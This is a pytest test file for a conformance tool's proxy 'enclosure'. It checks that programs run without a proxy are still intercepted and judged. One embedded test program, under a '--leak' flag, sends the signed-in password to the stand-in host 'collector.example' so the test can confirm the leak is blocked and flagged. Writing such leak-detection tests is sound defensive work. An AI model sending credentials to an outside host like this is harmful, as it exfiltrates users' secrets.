"""A program that knows no proxy, built for the production names: enclosed, it is judged all the same."""

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from blastiq_conformance.proxy import enclosure
from tests.clients.verdict import judge
from tests.judge.cli.test_intercept import can_unshare

pytestmark = pytest.mark.slow

ENCLOSED = [sys.executable, "-m", "blastiq_conformance.proxy.enclosure"]
# http.client connects to the name itself, whatever the environment says of proxies.
PROGRAM = """
import http.client, json, os, sys
from urllib.parse import urlencode, urlsplit

def ask(url, form=None, **headers):
    parts = urlsplit(url)
    kind = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    connection = kind(parts.netloc, timeout=10)
    connection.request("POST" if form else "GET", parts.path, urlencode(form) if form else None, headers)
    answer = connection.getresponse()
    return answer.status, answer.read()

assert not [name for name in os.environ if name.upper().endswith("_PROXY") or name == "BLASTIQ_NAMES"]
status, body = ask(os.environ["BLASTIQ_DISCOVERY_URL"])
form = {"grant_type": "password", "username": os.environ["BLASTIQ_USERNAME"],
        "password": os.environ["BLASTIQ_PASSWORD"], "client_id": os.environ["BLASTIQ_CLIENT_ID"]}
kind = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "application/json"}
status, body = ask(json.loads(body)["token_endpoint"], form, **kind)
token = {"Authorization": "Bearer " + json.loads(body)["access_token"]}
status, body = ask(os.environ["BLASTIQ_API_URL"], **token)
if "--leak" in sys.argv:
    assert ask("http://collector.example/", {"note": form["password"]})[0] == 403
sys.exit(0 if status == 200 else 1)
"""

enclosed = pytest.mark.skipif(not can_unshare, reason="no namespaces can be made here")


@enclosed
@pytest.mark.parametrize(("options", "errors"), [([], set()), (["--leak"], {"708"})], ids=["right", "leak"])
def test_a_program_without_a_proxy_is_judged(
    tmp_path: Path, workshop: Path, options: list[str], errors: set[str]
) -> None:
    """It finds the fake by the production name, over TLS; what it sends to any other name, over http too, is seen."""
    program = tmp_path / "program.py"
    program.write_text(PROGRAM)
    words = [*ENCLOSED, sys.executable, str(program), *options]
    verdict = judge(words, tmp_path, workshop, scenarios=["sign-in"], options=["--intercept"])
    assert (verdict.errors, verdict.exit_code) == (errors, 1 if errors else 0), verdict.text


@enclosed
@pytest.mark.parametrize(("words", "status"), [(["sh", "-c", "exit 7"], 7), (["no-such-program"], 127)], ids=str)
def test_the_status_is_the_programs_own(words: list[str], status: int) -> None:
    """And 127 where there is no such program, as a shell says it."""
    environment = {**os.environ, "HTTPS_PROXY": "http://127.0.0.1:1"}
    assert subprocess.run([*ENCLOSED, *words], env=environment, check=False, capture_output=True).returncode == status


@pytest.mark.parametrize(
    ("words", "told", "status", "said"),
    [
        ([], {"HTTPS_PROXY": "http://127.0.0.1:1"}, 2, "expected a command"),
        (["true"], {}, 2, "blastiq run --intercept"),
        (["true"], {"HTTPS_PROXY": "http://127.0.0.1:1", "PATH": ""}, 126, "does not let its users make namespaces"),
    ],
    ids=["no-command", "no-proxy", "no-namespace"],
)
def test_what_is_missing_is_said(words: list[str], told: dict[str, str], status: int, said: str) -> None:
    """Before anything is started."""
    inherited = {name: value for name, value in os.environ.items() if not name.upper().endswith("_PROXY")}
    done = subprocess.run([*ENCLOSED, *words], env=inherited | told, check=False, capture_output=True, text=True)
    assert (done.returncode, said in done.stderr) == (status, True), done.stderr


@pytest.mark.parametrize(
    ("limit", "answer"), [pytest.param(1.0, b"answer", id="half-close"), pytest.param(-1.0, b"", id="gave-up")]
)
def test_a_program_that_ends_its_side(monkeypatch: pytest.MonkeyPatch, limit: float, answer: bytes) -> None:
    """Right after its request it still listens; later it has given up, and what it called learns that."""
    monkeypatch.setattr(enclosure, "_HALF_CLOSING", limit)
    program, inner = socket.socketpair()
    with socket.create_server(("127.0.0.1", 0)) as proxy, program:
        passing = threading.Thread(target=enclosure._pass_on, args=(inner, proxy.getsockname(), b""))
        passing.start()
        outer, _ = proxy.accept()
        with outer:
            program.sendall(b"request")
            program.shutdown(socket.SHUT_WR)
            assert outer.recv(100) + outer.recv(100) == b"request"
            if not answer:
                passing.join(5)
                assert not passing.is_alive()
            else:
                outer.sendall(answer)
        assert program.recv(100) == answer
        passing.join(5)
